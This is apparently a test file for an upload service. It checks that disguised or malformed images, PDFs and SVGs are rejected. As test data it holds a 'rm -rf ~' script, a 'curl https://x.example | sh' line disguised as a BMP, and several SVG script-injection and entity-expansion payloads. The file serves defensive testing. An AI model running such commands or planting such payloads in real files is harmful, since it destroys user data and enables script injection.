import {readFileSync} from 'node:fs'
import {crc32} from 'node:zlib'
import sharp from 'sharp'
import {describe, expect, test} from 'vitest'
import {PDF, SVG, codeOf, copyOf, half, noise, plain, png, testService, text, upload} from './test-service.ts'

const {open, stored} = testService()

/** A BMP of 3 x 2 pixels. */
function bmp() {
  const file = Buffer.alloc(54 + 2 * 12, 0x80)
  file.write('BM', 'latin1')
  file.writeUInt32LE(file.length, 2)
  for (const [at, value] of [
    [6, 0],
    [10, 54],
    [14, 40],
    [18, 3],
    [22, 2],
  ])
    file.writeUInt32LE(value ?? 0, at ?? 0)
  file.writeUInt16LE(1, 26)
  file.writeUInt16LE(24, 28)
  file.fill(0, 30, 54)
  return copyOf(file)
}

const heic = () => copyOf(readFileSync(new URL('../../lake/assets/test-photograph.heic', import.meta.url)))

function heicWithoutPixels() {
  const file = heic()
  return file.fill(0, Buffer.from(file).indexOf('mdat') + 4)
}

/** The photograph with another size in its header. */
function heicOf(width: number, height: number, file = heic()) {
  const bytes = Buffer.from(file)
  const at = bytes.indexOf('ispe') + 8
  bytes.writeUInt32BE(width, at)
  bytes.writeUInt32BE(height, at + 4)
  return copyOf(bytes)
}

const SCRIPT = '#!/bin/sh\nrm -rf ~\n'

/** A BMP header for compressed pixels, before a shell script. */
function compressedBmp() {
  const header = Buffer.from(bmp().slice(0, 54))
  header.writeUInt16LE(8, 28)
  header.writeUInt32LE(1, 30)
  return copyOf(Buffer.concat([header, Buffer.from(SCRIPT)]))
}

/** A PNG of this size whose compressed pixels are a shell script. */
function scriptPng(width: number, height: number) {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0])
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  const chunks = [chunk('IHDR', header), chunk('IDAT', Buffer.from(SCRIPT)), chunk('IEND', Buffer.alloc(0))]
  return copyOf(Buffer.concat([signature, ...chunks]))
}

function chunk(type: string, content: Buffer) {
  const tagged = Buffer.concat([Buffer.from(type), content])
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  checksum.writeUInt32BE(crc32(tagged))
  return Buffer.concat([length, tagged, checksum])
}

/** An SVG that holds this XML too. */
const drawing = (xml: string) => SVG.replace('<path', `${xml}<path`)

/** An SVG with an XHTML element, as draw.io writes text. */
const foreign = (element: string) =>
  drawing(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${element}</body></foreignObject>`)

/** An SVG with a link of these attributes. */
const linked = (attributes: string, xml = '') => drawing(`<a ${attributes}>${xml}</a>`)

/** A JPEG of 81 million pixels, as the largest telephones make. */
const largeJpeg = () =>
  sharp({create: {width: 9000, height: 9000, channels: 3, background: '#a87'}})
    .jpeg()
    .toBuffer()

describe('POST /upload-service/objects', () => {
  test.each<[string, string, () => Promise<Uint8Array<ArrayBuffer>>]>([
    ['image/jpeg', 'image/jpeg', async () => copyOf(await plain().jpeg().toBuffer())],
    ['image/gif', 'image/gif', async () => copyOf(await plain().gif().toBuffer())],
    ['image/webp', 'image/webp', async () => copyOf(await plain().webp().toBuffer())],
    ['image/avif', 'image/avif', async () => copyOf(await plain().avif().toBuffer())],
    ['image/svg+xml', 'image/svg+xml', async () => text(SVG)],
    ['image/tiff', 'image/jpeg', async () => copyOf(await plain().tiff().toBuffer())],
    ['image/bmp', 'image/jpeg', async () => bmp()],
    ['image/heic', 'image/jpeg', async () => heic()],
    ['application/pdf', 'application/pdf', async () => text(PDF)],
    ['image/png', 'image/jpeg', async () => copyOf(await plain().jpeg().toBuffer())],
    ['image/jpg', 'image/jpeg', async () => copyOf(await plain().jpeg().toBuffer())],
  ])('an upload announced as %s is served as the %s that it is', async (announced, served, make) => {
    const app = open()
    const {response, path} = await upload(app, await make(), announced)
    expect(response.status).toBe(204)
    expect((await app.request(path)).headers.get('content-type')).toBe(served)
  })

  test.each<[string, string, () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>]>([
    ['a web page', 'image/png', () => text('<!doctype html><script>alert(1)</script>')],
    ['plain text', 'image/png', () => text('hello')],
    ['a program', 'image/png', () => text(`MZ${'\0'.repeat(100)}`)],
    ['a PNG cut within its header', 'image/png', async () => (await png()).slice(0, 20)],
    ['a PNG cut within its picture', 'image/png', async () => half(await (await noise()).png().toBuffer())],
    ['a JPEG cut in half', 'image/jpeg', async () => half(await (await noise()).jpeg().toBuffer())],
    [
      'a PNG signature before a web page',
      'image/png',
      async () =>
        copyOf(
          Buffer.concat([
            Buffer.from((await png()).slice(0, 33)),
            Buffer.from('<script>alert(1)</script>'.repeat(9)),
          ]),
        ),
    ],
    [
      'a shell script called BMP',
      'image/bmp',
      () => text('BM=1; exec curl https://x.example | sh #'.padEnd(2000, '#')),
    ],
    ['a shell script behind the header of a compressed BMP', 'image/bmp', () => compressedBmp()],
    ['a shell script in a PNG of 81 million pixels', 'image/png', () => scriptPng(9000, 9000)],
    ['a JPEG of 81 million pixels cut in half', 'image/jpeg', async () => half(await largeJpeg())],
    [
      'a HEIC of 20 million pixels without its pixels',
      'image/heic',
      () => heicOf(5000, 4000, heicWithoutPixels()),
    ],
    ['a BMP cut before its last row', 'image/bmp', () => bmp().slice(0, -1)],
    ['a HEIC without pixels', 'image/heic', () => heicWithoutPixels()],
    ['a HEIC cut within its picture', 'image/heic', () => heic().slice(0, 1200)],
    ['a PDF cut before its end', 'application/pdf', () => text(PDF.slice(0, -7))],
    ['a PDF announced as an image', 'image/png', () => text(PDF)],
    ['an image announced as a PDF', 'application/pdf', png],
    [
      'an SVG with a script',
      'image/svg+xml',
      () => text(SVG.replace('<path', '<script>alert(1)</script><path')),
    ],
    ['an SVG with a handler', 'image/svg+xml', () => text(SVG.replace('<path', '<path onload="alert(1)"'))],
    [
      'an SVG with a link that runs',
      'image/svg+xml',
      () =>
        text(
          SVG.replace('<path', '<a href=" java&#10;script:alert(1)"><path').replace('</svg>', '</a></svg>'),
        ),
    ],
    ['an SVG that is not well-formed', 'image/svg+xml', () => text(SVG.replace('</svg>', ''))],
    ['an SVG without its namespace', 'image/svg+xml', () => text('<svg/>')],
    [
      'a web page that holds an SVG',
      'image/svg+xml',
      () => text(`<html xmlns="http://www.w3.org/1999/xhtml">${SVG}</html>`),
    ],
    ['an SVG of ever deeper groups', 'image/svg+xml', () => text(SVG.replace('<path', '<g>'.repeat(600)))],
    [
      'an SVG of entities that grow',
      'image/svg+xml',
      () =>
        text(
          `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${SVG.replace('<path', '<text>&b;</text><path')}`,
        ),
    ],
  ])('rejects %s', async (_what, announced, make) => {
    const {response, path} = await upload(open(), await make(), announced)
    expect(await codeOf(response)).toMatchObject({status: 400, code: 'InvalidRequest'})
    expect(stored()).toEqual({files: [], incoming: []})
    expect((await open().request(path)).status).toBe(404)
  })

  test.each([
    ['a frame', foreign('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>')],
    ['an object', foreign('<object data="https://x.example"/>')],
    ['an embedded page', foreign('<embed src="https://x.example"/>')],
    ['a redirect', foreign('<meta http-equiv="refresh" content="0;url=https://x.example"/>')],
    ['a form', foreign('<form action="https://x.example"/>')],
    ['a page in an attribute', foreign('<div srcdoc="&lt;p/&gt;"/>')],
    ['a link to a page that it holds', linked('href=" data:application/xhtml+xml,x"')],
    ['a link to an SVG that it holds', linked('href="data:image/svg+xml;base64,x"')],
    ['an animated link that runs', linked('', '<animate attributeName="href" values="#; javascript:x"/>')],
    ['a transformation', drawing('<x:template xmlns:x="http://www.w3.org/1999/XSL/Transform" match="/"/>')],
    ['a style sheet for the whole file', `<?xml-stylesheet type="text/xsl" href="x.xsl"?>${SVG}`],
    ['a handler in its document type', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${SVG}`],
    [
      'an entity of two values',
      `<!DOCTYPE svg [<!ENTITY a "javascript"><!ENTITY a "https">]>${linked('href="&a;:x"')}`,
    ],
    [
      'a declaration that browsers do not see',
      `<!DOCTYPE svg SYSTEM '<!ENTITY a "x">'>${linked('href="java&a;script:x"')}`,
    ],
  ])('rejects an SVG with %s', async (_what, svg) => {
    const {response} = await upload(open(), text(svg), 'image/svg+xml')
    expect(await codeOf(response)).toMatchObject({status: 400, code: 'InvalidRequest'})
  })

  test.each([
    ['text in XHTML', foreign('<div style="color: red"><b>Gate</b><br/></div>')],
    ['a picture', drawing('<image href="data:image/png;base64,x"/>')],
    ['a font', drawing('<font-face-uri href="data:application/font-woff;base64,x"/>')],
    ['a link', linked('href="https://x.example"')],
    ['an object that is not of XHTML', drawing('<x:object xmlns:x="https://x.example"/>')],
  ])('accepts an SVG with %s', async (_what, svg) => {
    expect((await upload(open(), text(svg), 'image/svg+xml')).response.status).toBe(204)
  })

  test('accepts the SVG of a drawing program, with its entities and its byte order mark', async () => {
    const drawn = `\ufeff<?xml version="1.0" encoding="utf-8"?><!-- drawn --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"><title>पत्थर</title></svg>`
    expect((await upload(open(), text(drawn), 'image/svg+xml')).response.status).toBe(204)
  })

  test('a JPEG of 81 million pixels is made smaller', async () => {
    const app = open()
    const {response, path} = await upload(app, copyOf(await largeJpeg()), 'image/jpeg')
    expect(response.status).toBe(204)
    const {width, height} = await sharp(await (await app.request(path)).arrayBuffer()).metadata()
    expect([width, height]).toEqual([6000, 6000])
  })

  test('a photograph of an iPhone that staff send has an address that the viewer shows', async () => {
    const {path} = await upload(open(), heic(), 'image/heic', 'IMG_0001.heic')
    expect(path).toMatch(/\.jpg$/)
  })

  test('rejects a picture of more than 200 million pixels, a HEIC of more than 50 million, and names that limit', async () => {
    const sentOf = async (file: Uint8Array<ArrayBuffer>, type: string) =>
      codeOf((await upload(open(), file, type)).response)
    const sentence = (text: string) => ({status: 400, text: expect.stringContaining(text)})
    expect(await sentOf(scriptPng(20_000, 10_001), 'image/png')).toMatchObject(
      sentence('more than 200 million pixels'),
    )
    expect(await sentOf(heicOf(10_000, 6000), 'image/heic')).toMatchObject(
      sentence('more than 50 million pixels'),
    )
    expect(stored()).toEqual({files: [], incoming: []})
  })
})
